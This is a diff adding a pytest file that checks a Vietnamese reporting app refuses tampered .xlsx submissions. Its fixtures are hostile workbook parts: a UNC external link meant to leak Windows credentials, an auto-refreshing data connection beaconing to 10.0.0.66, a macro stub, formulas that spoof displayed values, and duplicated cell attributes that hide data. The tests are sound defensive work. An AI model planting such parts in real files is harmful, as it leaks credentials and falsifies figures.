@@ -1,0 +1,112 @@
+"""Parts and cells the program never writes, which a spreadsheet program would act on: an
+external link (a UNC path that would leak the Windows login), a macro project, a data
+connection refreshed on opening, a relationship pointing outside the file, a formula whose
+cached result is the signed value (Excel recalculates on opening: the writer asks it to), a cell
+stating an attribute twice (LibreOffice drops the rest of its row). Each is refused as a damaged
+file (Tệp hỏng) with a Vietnamese reason; intake and `chitieu verify` say the same."""
+from __future__ import annotations
+
+import pytest
+
+from desktop_app.core.errors import DamagedFile
+from desktop_app.core.intake import FileClass
+from exports.submission_reader import examine, verify_file
+from exports.xlsx_container import check_container
+from tests.exports.test_exports_xlsx import SAMPLE_V1, SAMPLE_V2
+from tests.province.helpers import with_part
+
+REPORT = "xl/worksheets/sheet1.xml"  # "Báo cáo"
+DATA = "xl/worksheets/sheet2.xml"  # "Dữ liệu"
+RELS = "xl/_rels/workbook.xml.rels"
+CONTACT = "có thể kết nối tới máy khác"
+UNC = b"\\\\10.0.0.66\\share\\x.xlsx"
+LINK = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
+        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>')
+LINK_RELS = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+             b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="'
+             + UNC + b'" TargetMode="External"/></Relationships>')
+CONNECTION = (b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+              b'name="q" type="4" refreshOnLoad="1"><webPr url="http://10.0.0.66/beacon"/></connection></connections>')
+
+
+def _same(xml: bytes) -> bytes:
+    return xml
+
+
+def _swap(old: bytes, new: bytes):
+    def change(xml: bytes) -> bytes:
+        assert old in xml
+        return xml.replace(old, new, 1)
+    return change
+
+
+@pytest.mark.parametrize("extra, said", [
+    ({"xl/externalLinks/externalLink1.xml": LINK, "xl/externalLinks/_rels/externalLink1.xml.rels": LINK_RELS},
+     "external link"),
+    ({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2044)}, "macro"),
+    ({"xl/connections.xml": CONNECTION}, "kết nối dữ liệu"),
+    ({"xl/queryTables/queryTable1.xml": b"<queryTable/>"}, "query table"),
+    ({"xl/activeX/activeX1.xml": b"<ax:ocx/>"}, "ActiveX"),
+    ({"xl/embeddings/oleObject1.bin": bytes(64)}, "đối tượng nhúng"),
+    ({"customUI/customUI14.xml": b"<customUI/>"}, "custom UI"),
+    ({"xl/printerSettings/printerSettings1.bin": bytes(64)}, ".bin"),
+], ids=["external-link", "vba", "connection", "query-table", "activex", "embedding", "custom-ui", "bin"])
+def test_a_part_the_program_never_writes_is_refused_saying_what_it_is(tmp_path, extra, said):
+    path = tmp_path / "xa.xlsx"
+    path.write_bytes(with_part(SAMPLE_V2, REPORT, _same, extra))
+    result, sub = examine(path)
+    assert sub is None and result.class_ == FileClass.TEP_HONG
+    assert said in result.reason and CONTACT in result.reason and next(iter(extra)) in result.reason
+    verdict = verify_file(path)
+    assert not verdict.ok and said in verdict.message
+
+
+def test_a_relationship_pointing_outside_the_file_is_refused_naming_the_address():
+    link = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            b'hyperlink" Target="file:///' + UNC + b'" TargetMode="External"/></Relationships>')
+    with pytest.raises(DamagedFile, match=CONTACT) as err:
+        check_container(with_part(SAMPLE_V2, RELS, _swap(b"</Relationships>", link)), "xa.xlsx")
+    assert "10.0.0.66" in err.value.message and "bên ngoài tệp" in err.value.message
+
+
+@pytest.mark.parametrize("part, old, new", [
+    (REPORT, b'<c r="E10" s="8" t="inlineStr"><is><t>45.230</t></is></c>',
+     b'<c r="E10" s="8" t="str"><f>"99.999"</f><v>45.230</v></c>'),
+    (DATA, b"<is><t>45230</t></is></c>", b"<f>99999</f><v>45230</v></c>"),
+    (REPORT, b'<c r="E10" s="8" t="inlineStr"><is><t>45.230</t></is></c>',
+     (b'<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="E10" t="str">'
+      b'<x:f>"99.999"</x:f><x:v>45.230</x:v></x:c>')),
+], ids=["bao-cao", "du-lieu", "prefixed"])
+def test_a_formula_with_the_signed_value_as_its_result_is_refused(tmp_path, part, old, new):
+    """Excel shows what the formula computes (the workbook asks it to recalculate on opening),
+    LibreOffice and the reader the cached value: the program writes no formula at all."""
+    path = tmp_path / "xa.xlsx"
+    path.write_bytes(with_part(SAMPLE_V2, part, _swap(old, new)))
+    result, sub = examine(path)
+    assert sub is None and result.class_ == FileClass.TEP_HONG
+    assert "có công thức" in result.reason and part in result.reason
+
+
+@pytest.mark.parametrize("new", [
+    b'<c r="E10" s="8" t="n" t="inlineStr"><v>99999</v>',
+    b'<c r="E10" s="8" t="inlineStr" t="n"><v>99999</v>',
+    b'<c r="E10" s="8" s="8" t="inlineStr">',
+    b"<c r='E10' t='inlineStr' s='8' t='inlineStr'>",
+], ids=["n-then-inline", "inline-then-n", "style", "otherwise-spelled"])
+def test_a_cell_stating_an_attribute_twice_is_refused(new):
+    """LibreOffice drops the rest of such a cell's row; calamine reads the signed text."""
+    change = _swap(b'<c r="E10" s="8" t="inlineStr">', new)
+    with pytest.raises(DamagedFile, match="ghi thuộc tính (t|s) hai lần") as err:
+        check_container(with_part(SAMPLE_V2, REPORT, change), "xa.xlsx")
+    assert "E10" in err.value.message
+
+
+def test_what_the_program_writes_and_cells_merely_written_otherwise_are_read(tmp_path):
+    """Files of every version, a cell with its attributes in another order or with another
+    attribute (Excel's cm), and words that look like a formula or an attribute are read."""
+    for sample in (SAMPLE_V1, SAMPLE_V2):
+        check_container(sample.read_bytes(), "xa.xlsx")
+    for old, new in ((b'<c r="E10" s="8" t="inlineStr">', b'<c t="inlineStr" s="8" r="E10">'),
+                     (b'<c r="E10" s="8" t="inlineStr">', b'<c r="E10" s="8" t="inlineStr" cm="1">'),
+                     (b"<t>45.230</t>", b'<t>&lt;f&gt;1&lt;/f&gt; t="n" t="s"</t>')):
+        check_container(with_part(SAMPLE_V2, REPORT, _swap(old, new)), "xa.xlsx")
